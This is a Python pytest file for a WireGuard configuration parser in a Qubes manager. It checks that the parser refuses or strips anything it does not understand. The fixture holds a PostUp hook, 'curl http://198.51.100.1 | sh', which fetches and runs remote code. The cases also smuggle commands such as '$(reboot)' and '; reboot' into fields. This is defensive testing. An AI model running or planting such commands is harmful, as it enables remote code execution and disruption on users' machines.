"""WireGuard's files: what is understood is written anew, and nothing else."""

import base64
import ipaddress

import pytest

from qubes_manager.core.errors import BadInput
from qubes_manager.core.wireguard import MAX_FILE, Peer, Tunnel, parse_tunnel

OWN, THEIRS, SHARED = (base64.b64encode(bytes([number]) * 32).decode() for number in (1, 2, 3))
FILE = f"""
# As providers give it away.
[Interface]
PrivateKey = {OWN}
address=10.64.0.2/32,fd00::2/128
DNS = 10.64.0.1, corp.example, fd00::1   # theirs
MTU = 1380
ListenPort = 5000
PostUp = iptables -F; curl http://198.51.100.1 | sh
Table = off

[Peer]
PublicKey = {THEIRS}
PresharedKey = {SHARED}
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = vpn.example:51820
PersistentKeepalive = 25

[Peer]
PublicKey = {OWN}
AllowedIPs = 10.9.0.0/16
Endpoint = [2001:db8::1]:443
PersistentKeepalive = off
"""


def test_what_is_understood_is_taken_over_and_named_what_is_not() -> None:
    tunnel = parse_tunnel(FILE)
    assert tunnel == Tunnel(
        OWN,
        ("10.64.0.2/32", "fd00::2/128"),
        (ipaddress.ip_address("10.64.0.1"), ipaddress.ip_address("fd00::1")),
        (
            Peer(THEIRS, ("0.0.0.0/0", "::/0"), "vpn.example", 51820, SHARED, 25),
            Peer(OWN, ("10.9.0.0/16",), "2001:db8::1", 443),
        ),
        1380,
        ("listenport", "postup", "table"),
    )


def test_what_is_written_is_read_back_and_runs_nothing() -> None:
    tunnel = parse_tunnel(FILE)
    written = tunnel.to_file()
    assert "curl" not in written
    assert parse_tunnel(written).left_out == ()
    assert parse_tunnel(written).to_file() == written


@pytest.mark.parametrize(
    ("before", "after", "field"),
    [
        (f"PrivateKey = {OWN}", "PrivateKey = secret-but-no-key", "privatekey"),
        (f"PrivateKey = {OWN}", "", "privatekey"),
        (f"PublicKey = {THEIRS}", f"PublicKey = {THEIRS}\n PostUp = true", "publickey"),
        ("Endpoint = vpn.example:51820", "Endpoint = vpn.example;reboot:51820", "Endpoint"),
        ("Endpoint = vpn.example:51820", "Endpoint = 10.0.0.0/8:51820", "Endpoint"),
        ("Endpoint = vpn.example:51820", "Endpoint = vpn.example", "Endpoint"),
        ("Endpoint = vpn.example:51820", "Endpoint = vpn.example:70000", "Endpoint"),
        ("0.0.0.0/0, ::/0", "everything", "allowedips"),
        ("address=10.64.0.2/32,fd00::2/128", "address=$(reboot)", "address"),
        ("address=10.64.0.2/32,fd00::2/128", "", "Address"),
        ("fd00::2/128", "fe80::1%x\n  PostUp = reboot", "address"),
        ("[2001:db8::1]:443", "[fe80::1%$(reboot)]:443", "Endpoint"),
        ("10.64.0.1, corp.example", "10.64.0.1; reboot", "DNS"),
        ("10.64.0.1, corp.example", "1.1.1.1:53", "DNS"),
        ("MTU = 1380", "MTU = 1380; reboot", "MTU"),
        ("[Interface]", "[Other]", "section"),
        ("[Interface]", "", "WireGuard file"),
        ("MTU = 1380", "MTU = 1380\nMTU = 1400", "WireGuard file"),
        ("PersistentKeepalive = 25", "PersistentKeepalive = often", "PersistentKeepalive"),
    ],
)
def test_what_is_not_understood_is_refused_by_name(before: str, after: str, field: str) -> None:
    assert before in FILE
    with pytest.raises(BadInput) as refused:
        parse_tunnel(FILE.replace(before, after))
    assert field in refused.value.field
    assert "secret" not in str(refused.value)


def test_a_file_without_a_server_or_of_any_length_is_refused() -> None:
    with pytest.raises(BadInput):
        parse_tunnel(FILE.replace("Endpoint", "# Endpoint"))
    with pytest.raises(BadInput):
        parse_tunnel(FILE.partition("[Peer]")[0])
    with pytest.raises(BadInput):
        parse_tunnel(FILE + "#" * MAX_FILE)


def test_characters_that_one_reader_drops_and_another_keeps_hide_nothing() -> None:
    # bash reads no NUL, and so another word than who keeps it.
    for hidden in ("Post\0Up = reboot", "PostUp\u200b = reboot", "\u2028PostUp = reboot"):
        try:
            written = parse_tunnel(FILE.replace("MTU = 1380", hidden)).to_file()
        except BadInput:
            continue
        assert "reboot" not in written
